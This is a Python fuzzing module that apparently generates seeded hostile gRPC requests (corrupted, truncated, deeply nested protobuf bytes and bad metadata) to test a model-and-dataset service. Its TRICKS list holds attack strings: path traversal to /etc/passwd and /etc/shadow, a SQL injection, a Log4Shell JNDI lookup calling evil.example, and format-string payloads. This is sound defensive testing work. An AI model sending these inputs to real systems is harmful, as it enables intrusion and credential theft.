"""Hostile requests, from a seed: bytes that are no message, messages whose every field is what it should not be."""

from __future__ import annotations

import math
import random
import string
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from google.protobuf import message_factory
from google.protobuf.descriptor import Descriptor, FieldDescriptor, MethodDescriptor
from google.protobuf.message import Message

CANARY = "canary-7f3a9c51"
"""In much of what is sent: no log may repeat it."""

NAMES = (
    "datanets/notes",
    "datanets/notes/contributors/alice",
    "datanets/notes/snapshots/1",
    "datanets/notes/records/" + "0" * 64,
    "models/m/versions/1",
    "models/m",
    "models/-",
    "baseModels/tiny",
    "trainingRuns/01JDGXG4ZXQ8V5E7YB1T3M9KCN",
    "evaluations/01JDGXG4ZXQ8V5E7YB1T3M9KCN",
    "promotionOverrides/01JDGXG4ZXQ8V5E7YB1T3M9KCN",
    "inferences/01JDGXG4ZXQ8V5E7YB1T3M9KCN",
    "attributions/01JDGXG4ZXQ8V5E7YB1T3M9KCN",
    "batches/0",
    "rewardRoots/1",
    "sha256:" + "0" * 64,
    "0x" + "ab" * 20,
    "notes",
)
"""Names of the right form, some of what is there: they lead past the first rule."""

TRICKS = (
    "",
    "datanets/../../etc/passwd",
    "../../../../etc/shadow",
    "datanets/notes/../platform",
    "datanets/notes/",
    "//datanets/notes",
    "datanets/%2e%2e/platform",
    "datanets/notes\x00.json",
    "datanets/notes\n",
    "models/m/versions/0",
    "models/m/versions/999999999",
    "models/m/versions/-1",
    "batches/999999999999999999",
    "'; DROP TABLE records; --",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__}",
    "%s%s%s%n",
    "\u202e\u0000\ufeff",
    "a\u0301" * 30,
    "\U0001f4a3" * 50,
    "MTcwMDA=",
    "AA==",
    "====",
    f"{CANARY}@example.org",
    CANARY,
)
_INTEGERS = (
    0,
    1,
    -1,
    2,
    7,
    100,
    1000,
    1001,
    4096,
    2**31 - 1,
    -(2**31),
    2**32 - 1,
    2**63 - 1,
    -(2**63),
    2**64 - 1,
)
_DOUBLES = (0.0, -0.0, 1.0, -1.0, 0.5, 1e-320, 1e308, -1e308, math.inf, -math.inf, math.nan, 2.0)
_RANGES = {
    FieldDescriptor.CPPTYPE_INT32: (-(2**31), 2**31 - 1),
    FieldDescriptor.CPPTYPE_INT64: (-(2**63), 2**63 - 1),
    FieldDescriptor.CPPTYPE_UINT32: (0, 2**32 - 1),
    FieldDescriptor.CPPTYPE_UINT64: (0, 2**64 - 1),
}
_RECORDS = (
    b"",
    b"{",
    b"[]",
    b"null",
    b'{"text": 7}',
    b'{"text": "' + CANARY.encode() + b'@example.org is my e-mail address and I am the owner"}',
    b'{"text": "a", "text": "b"}',
    b'{"text": "\\ud800"}',
    b"\xff\xfe",
    b'{"a":' * 300 + b"1" + b"}" * 300,
    b'{"text": "' + b"x" * 100_000 + b'"}',
    b'{"text": NaN}',
    b'{"text": "The group lists the processes of host 1 and waits."}',
)


@dataclass(frozen=True)
class Hostile:
    """One call: which method, with which bytes, and what its client does meanwhile."""

    method: MethodDescriptor
    messages: tuple[bytes, ...]
    token: str
    """Name of the token to bring: "admin", "user", "none", "gibberish"."""
    cancels: bool
    """Its client disconnects after sending."""
    metadata: tuple[tuple[str, str | bytes], ...] = ()


class Generator:
    """Makes calls; the same seed makes the same ones."""

    def __init__(self, methods: list[MethodDescriptor], seed: int) -> None:
        self._random = random.Random(seed)
        self._methods = methods
        self._forms: tuple[tuple[int, Callable[[Descriptor], bytes]], ...] = (
            (6, self._filled),
            (2, self._cut),
            (2, self._flipped),
            (2, self._gibberish),
            (1, self._not_utf8),
            (1, self._endless),
        )

    def call(self) -> Hostile:
        """The next one."""
        method = self._random.choice(self._methods)
        count = self._random.choice((0, 1, 2, 5)) if method.client_streaming else 1
        forms = self._random.choices(
            [form for _, form in self._forms], [weight for weight, _ in self._forms], k=count
        )
        token = self._random.choices(("admin", "alice", "user", "none", "gibberish"), (20, 3, 2, 1, 1))[0]
        return Hostile(
            method,
            tuple(form(method.input_type) for form in forms),
            token,
            self._random.random() < 0.02,
            self._metadata(),
        )

    def _metadata(self) -> tuple[tuple[str, str | bytes], ...]:
        if self._random.random() > 0.05:
            return ()
        return self._random.choice(
            (
                (("traceparent", "00-" + "0" * 32 + "-xyz"),),
                (("traceparent", "gibberish" * 50),),
                (("tracestate", "a=" + "b" * 600),),
                (("grpc-timeout-x", "1S"),),
                (("unknown-bin", bytes(range(256))),),
            )
        )

    def _filled(self, kind: Descriptor) -> bytes:
        return self._message(kind, 0).SerializeToString()

    def _cut(self, kind: Descriptor) -> bytes:
        whole = self._filled(kind)
        return whole[: self._random.randrange(len(whole) + 1)]

    def _flipped(self, kind: Descriptor) -> bytes:
        data = bytearray(self._filled(kind))
        for _ in range(self._random.randint(1, 4)):
            if data:
                data[self._random.randrange(len(data))] ^= 1 << self._random.randrange(8)
        return bytes(data)

    def _gibberish(self, kind: Descriptor) -> bytes:
        return self._random.randbytes(self._random.choice((1, 2, 7, 60, 4000)))

    def _not_utf8(self, kind: Descriptor) -> bytes:
        """A text field, by its own tag, that is no text."""
        number = self._random.choice([field.number for field in kind.fields] or [1])
        return bytes([number << 3 | 2]) + b"\x04\xff\xfe\xed\xa0" if number < 16 else b"\xff"

    def _endless(self, kind: Descriptor) -> bytes:
        """Groups or fields within fields, as deep as fits: a reader that recurses would fall."""
        depth = self._random.choice((50, 500, 5000))
        number = self._random.choice([field.number for field in kind.fields] or [1]) & 15 or 1
        if self._random.random() < 0.5:
            return bytes([number << 3 | 3]) * depth
        data = b""
        for _ in range(min(depth, 120)):
            data = bytes([number << 3 | 2, len(data) & 0x7F]) + data[:127]
        return data

    def _message(self, kind: Descriptor, depth: int) -> Message:
        message: Message = message_factory.GetMessageClass(kind)()
        for field in kind.fields:
            if self._random.random() < (0.85 if depth == 0 else 0.6) and depth < 5:
                self._fill(message, field, depth)
        return message

    def _fill(self, message: Message, field: FieldDescriptor, depth: int) -> None:
        target: Any = getattr(message, field.name)
        if field.is_repeated:
            entry = field.message_type
            if entry is not None and entry.GetOptions().map_entry:
                return
            for _ in range(self._random.choice((0, 1, 2, 3, 3, 40))):
                if entry is not None:
                    target.add().CopyFrom(self._message(entry, depth + 1))
                else:
                    target.append(self._value(field))
        elif field.message_type is not None:
            target.CopyFrom(self._message(field.message_type, depth + 1))
            if self._random.random() < 0.3:
                target.SetInParent()
        else:
            setattr(message, field.name, self._value(field))

    def _value(self, field: FieldDescriptor) -> Any:
        kind = field.cpp_type
        if kind in _RANGES:
            low, high = _RANGES[kind]
            return min(max(self._random.choice(_INTEGERS), low), high)
        if kind == FieldDescriptor.CPPTYPE_ENUM:
            known = [value.number for value in field.enum_type.values]
            return self._random.choice((*known, *known, 99, -1, 2**31 - 1))
        if kind in (FieldDescriptor.CPPTYPE_DOUBLE, FieldDescriptor.CPPTYPE_FLOAT):
            return self._random.choice((*_DOUBLES, self._random.random()))
        if kind == FieldDescriptor.CPPTYPE_BOOL:
            return self._random.random() < 0.5
        return self._bytes() if field.type == FieldDescriptor.TYPE_BYTES else self._text(field.name)

    def _bytes(self) -> bytes:
        return self._random.choice((*_RECORDS, self._random.randbytes(50)))

    def _text(self, field: str) -> str:
        choice = self._random.random()
        if choice < 0.45:
            fitting = [name for name in NAMES if _fits(field, name)]
            return self._random.choice(fitting or NAMES)
        if choice < 0.85:
            return self._random.choice(TRICKS)
        if choice < 0.95:
            letters = string.ascii_lowercase + string.digits + "/-_.: é\x7f"
            return "".join(self._random.choices(letters, k=self._random.choice((1, 3, 20, 300))))
        return CANARY * self._random.choice((10, 1000))


def _fits(field: str, name: str) -> bool:
    """Whether a name is of the kind that a field of this name wants."""
    needed = {
        "parent": ("datanets/notes", "models/m", "models/-"),
        "contributor": ("datanets/notes/contributors/",),
        "model": ("models/m", "baseModels/"),
        "base_model": ("baseModels/",),
        "model_version": ("models/m/versions/1",),
        "snapshot": ("datanets/notes/snapshots/",),
        "inference": ("inferences/",),
        "digest": ("sha256:",),
        "address": ("0x",),
    }.get(field)
    return needed is None or name.startswith(needed)
